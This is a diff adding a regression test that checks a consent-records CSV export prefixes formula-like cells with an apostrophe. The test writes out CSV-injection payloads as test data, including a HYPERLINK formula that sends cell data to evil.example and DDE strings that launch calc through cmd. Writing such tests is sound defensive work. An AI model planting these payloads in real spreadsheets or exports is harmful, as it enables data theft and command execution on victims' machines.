@@ -252,3 +252,48 @@ async def test_a_large_export_streams_in_constant_memory(
     assert (small_lines, large_lines) == (1 + RECENT, 1 + STATES)
     assert large_peak < small_peak * 1.25 + 200_000, (small_peak, large_peak)
     assert large_peak < 8_000_000, large_peak
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
+    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
+) -> None:
+    """Regression (issue 9, item 9): the CSV export escaped no formula, so text from a client
+    such as `=HYPERLINK(…)` ran when an auditor opened the file in a spreadsheet. Cells
+    starting with = + - @, tab or CR now start with a `'`; JSON Lines keeps the exact value."""
+    import dataclasses
+
+    client = await records_client(aiohttp_client, stack_urls, settings_for)
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    categories = ["marketing", "order_updates", "reminders", "account_alerts"]
+    services = services_of(client)
+    for number, start in (("15554449001", 0), ("15554449002", 4)):
+        await seed(
+            services,
+            number,
+            *(
+                dataclasses.replace(
+                    change(ConsentAction.GRANTED, f"f{n}", category=categories[n - start]),
+                    policy_version=text,
+                )
+                for n, text in enumerate(hostile[start : start + 4], start=start)
+            ),
+        )
+
+    _, body = await export(client, format="csv")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert sorted(r["policy_version"] for r in rows) == sorted("'" + text for text in hostile)
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    assert rows[0]["evidence"].startswith("{")
+
+    _, lines = await export(client, format="jsonl")
+    versions = [json.loads(line)["policy_version"] for line in lines.splitlines()]
+    assert sorted(versions) == sorted(hostile)
